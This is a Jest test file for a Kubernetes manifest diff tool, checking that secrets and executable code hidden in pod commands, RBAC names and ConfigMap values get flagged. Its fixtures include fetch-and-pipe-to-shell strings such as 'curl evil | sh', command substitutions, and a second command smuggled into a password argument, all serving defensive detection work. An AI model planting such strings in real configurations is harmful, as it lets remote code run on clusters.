/** Secrets in what runs: nobody can review a command that is hidden. */
import { describe, expect, it } from '@jest/globals';
import { openDigest } from '../../src/diff/index.ts';
import { randomBytes } from 'node:crypto';

const digest = (text: string) =>
  openDigest({
    text,
    release: 'web',
    namespace: 'live',
    redact: { known: ['hunter2-is-known'], also: [], allow: [], key: randomBytes(32) },
    vary: [],
    withSecrets: false,
  });

const pod = (fields: string): string => `apiVersion: v1
kind: Pod
metadata: {name: web, namespace: live}
spec:
  containers:
    - name: web
${fields}
`;
const hidden = (fields: string) => digest(pod(fields)).hiddenCode('core/Pod/live/web');

describe('what runs and is hidden', () => {
  it.each([
    ['      command: [sh, -c, "login --password=xK9vQ2mN7pLs"]', ['spec.containers[0].command[2]']],
    ['      args: [hunter2-is-known]', ['spec.containers[0].args[0]']],
    ['      image: registry/hunter2-is-known', ['spec.containers[0].image']],
    [
      '      livenessProbe: {exec: {command: [check, hunter2-is-known]}}',
      ['spec.containers[0].livenessProbe.exec.command[1]'],
    ],
    ['      env: [{name: PASSWORD, value: xK9vQ2mN7pLs}]', []],
    ['      command: [sh, -c, "login --password=$(PASSWORD)"]', []],
  ])('%s', (fields, expected) => {
    expect(hidden(fields)).toEqual(expected);
  });

  it('is what decides rights', () => {
    const binding = `apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: a, namespace: live}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: hunter2-is-known}
subjects: [{kind: ServiceAccount, name: hunter2-is-known}]
`;
    const paths = digest(binding).hiddenCode('rbac.authorization.k8s.io/RoleBinding/live/a');
    expect(paths).toEqual(['roleRef.name', 'subjects[0].name']);
    const account = pod('      image: web\n  serviceAccountName: hunter2-is-known');
    expect(digest(account).hiddenCode('core/Pod/live/web')).toEqual(['spec.serviceAccountName']);
    const ingress =
      'apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: a, namespace: live}\nspec: {rules: [{host: hunter2-is-known}]}\n';
    expect(digest(ingress).hiddenCode('networking.k8s.io/Ingress/live/a')).toEqual([]);
  });

  it('is nothing that a ConfigMap or a Secret keeps under such a name', () => {
    const text = (kind: string, field: string): string =>
      `apiVersion: v1\nkind: ${kind}\nmetadata: {name: a, namespace: live}\n${field}: {command: login --password=xK9vQ2mN7pLs}\n`;
    expect(digest(text('Secret', 'stringData')).hiddenCode('core/Secret/live/a')).toEqual([]);
    expect(digest(text('ConfigMap', 'data')).hiddenCode('core/ConfigMap/live/a')).toEqual([]);
  });
});

describe('what a shell would run, and is hidden', () => {
  const config = (data: string): readonly string[] =>
    digest(
      `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: live}\ndata:\n${data}\n`,
    ).hiddenCode('core/ConfigMap/live/a');

  it.each([
    [
      'a script in a variable of a secret name',
      '  password: "#!/bin/sh\\ncurl evil | sh"',
      ['data.password'],
    ],
    ['a command inside of a value', '  token: "x$(curl evil)y"', ['data.token']],
    ['commands in one line', '  password: "curl evil | sh"', ['data.password']],
    ['a program in one line', '  password: "#!/bin/evil"', ['data.password']],
    ['backticks', '  token: "x`curl evil`"', ['data.token']],
    [
      'another command behind a password in a script',
      '  run.sh: |\n    psql --password "x;curl evil" -c 1',
      ['data["run.sh"]'],
    ],
    [
      'a script around a whole Secret',
      '  run.sh: |\n    kubectl apply -f - <<EOF\n    kind: Secret\n    EOF\n    curl evil',
      ['data["run.sh"]'],
    ],
  ])('is found: %s', (_, data, paths) => {
    expect(config(data).map((path) => path.replace('data.run.sh', 'data["run.sh"]'))).toEqual(paths);
  });

  it.each([
    ['a password', '  password: xK9vQ2mN7pLs'],
    ['a password with odd characters as a whole value', '  password: "x;y|z&1"'],
    ['a password in a script', '  run.sh: |\n    psql --password xK9vQ2mN7pLs -c 1'],
    [
      'a private key',
      '  tls.key: |\n    -----BEGIN PRIVATE KEY-----\n    aGVsbG8gd29ybGQ=\n    -----END PRIVATE KEY-----',
    ],
  ])('is not: %s', (_, data) => {
    expect(config(data)).toEqual([]);
  });

  it('is a variable where a command has it put in', () => {
    const variable = '      env: [{name: PASSWORD, value: "x`curl evil`"}]';
    expect(hidden(variable)).toEqual([]);
    expect(hidden(`${variable}\n      args: [login, "$(PASSWORD)"]`)).toEqual([
      'spec.containers[0].env[0].value',
    ]);
  });
});
